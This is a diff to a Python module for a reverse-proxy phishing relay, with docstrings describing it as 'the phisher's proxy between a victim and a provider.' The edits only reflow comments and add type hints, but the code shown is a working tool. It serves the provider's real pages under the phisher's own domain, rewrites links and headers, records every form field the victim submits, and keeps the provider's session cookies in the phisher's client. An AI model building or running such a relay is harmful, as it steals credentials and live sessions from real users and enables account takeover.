@@ -1,7 +1,9 @@
-"""The phisher's proxy between a victim and a provider: it shows the real pages under a name of its own, and keeps what passes."""
+"""The phisher's proxy between a victim and a provider: it shows the real pages under a name of its
+own, and keeps what passes."""
 
 from collections.abc import Callable, Iterable
 from urllib.parse import quote
+from wsgiref.types import StartResponse, WSGIEnvironment
 
 import httpx
 from werkzeug.wrappers import Request, Response
@@ -19,10 +21,12 @@ NOT_PASSED_ON = {
 
 
 class Relay:
-    """A WSGI app under the origin `fake` that asks `real` for everything. It forges nothing, breaks no cipher and guesses no password.
+    """A WSGI app under the origin `fake` that asks `real` for everything. It forges nothing, breaks
+    no cipher and guesses no password.
 
-    `network` is the phisher's own browser: cookies that the provider sets stay in it, so in the end the session is there and nowhere
-    else. `typed` is what the victim sent in forms. `rewrite` may change a page before the victim sees it. One victim at a time.
+    `network` is the phisher's own browser: cookies that the provider sets stay in it, so in the end
+    the session is there and nowhere else. `typed` is what the victim sent in forms. `rewrite` may
+    change a page before the victim sees it. One victim at a time.
     """
 
     def __init__(
@@ -31,7 +35,7 @@ class Relay:
         self.network, self.real, self.fake, self.rewrite = network, real, fake, rewrite
         self.typed: dict[str, str] = {}
 
-    def __call__(self, environ, start_response):
+    def __call__(self, environ: WSGIEnvironment, start_response: StartResponse) -> Iterable[bytes]:
         request = Request(environ)
         body = request.get_data()
         self.typed |= request.form.to_dict()
@@ -41,18 +45,21 @@ class Relay:
         answer = self.network.request(
             request.method, self.real + target(environ), headers=headers, content=body
         )
-        headers = passed_on(answer.headers.multi_items(), self.real, self.fake)
-        return Response(self.shown(answer), answer.status_code, headers)(environ, start_response)
+        returned = passed_on(answer.headers.multi_items(), self.real, self.fake)
+        return Response(self.shown(answer), answer.status_code, returned)(environ, start_response)
 
     def shown(self, answer: httpx.Response) -> bytes:
         """What the victim gets to see: pages under the relay's name, and anything else as it is."""
         if not answer.headers.get("content-type", "").startswith("text/html"):
             return answer.content
-        return self.rewrite(answer.text.replace(self.real, self.fake)).encode(answer.encoding)
+        return self.rewrite(answer.text.replace(self.real, self.fake)).encode(
+            answer.encoding or "utf-8"
+        )
 
 
-def target(environ: dict) -> str:
-    """Path and query as they came. WSGI has taken the percent signs out of the path, so they are put back."""
+def target(environ: WSGIEnvironment) -> str:
+    """Path and query as they came. WSGI has taken the percent signs out of the path, so they are
+    put back."""
     path, query = (
         quote(environ["PATH_INFO"].encode("latin-1"), safe="/;@:+"),
         environ["QUERY_STRING"],
@@ -61,7 +68,8 @@ def target(environ: dict) -> str:
 
 
 def passed_on(headers: Iterable[tuple[str, str]], old: str, new: str) -> list[tuple[str, str]]:
-    """The headers that a relay hands on, with its own name in the place of the provider's or the other way round."""
+    """The headers that a relay hands on, with its own name in the place of the provider's or the
+    other way round."""
     return [
         (name, value.replace(old, new))
         for name, value in headers
